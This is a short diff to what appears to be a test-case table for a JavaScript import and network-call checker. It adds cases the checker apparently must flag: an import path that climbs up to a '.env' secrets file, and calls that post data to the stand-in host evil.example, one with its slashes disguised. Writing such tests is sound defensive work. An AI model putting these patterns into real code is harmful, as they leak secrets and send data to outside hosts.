@@ -33,6 +33,13 @@ _OUTSIDE = (
     top("imports-files", 'import { readFileSync } from "fs-extra";'),
     top("imports-undici", 'import { request } from "undici";'),
     top("exports-from-another", 'export * from "left-pad";'),
+    edited(
+        "imports-through-what-is-known",
+        {CATALOG: (('from "lodash-es";', 'from "lodash-es";\nimport s from "lodash-es/../../.env";'),)},
+        2,
+    ),
+    line("address-of-any-kind", "const at = `${kind}://evil.example`;"),
+    line("address-behind-slashes", 'void api.post("\\/\\/evil.example", value);'),
     top("imports-over-lines", "import {\n  $,\n} from 'execa';"),
     top("imports-with-a-type", 'import { type Options, $ } from "execa";'),
     top("imports-a-name-that-is-type", 'import type from "execa";'),
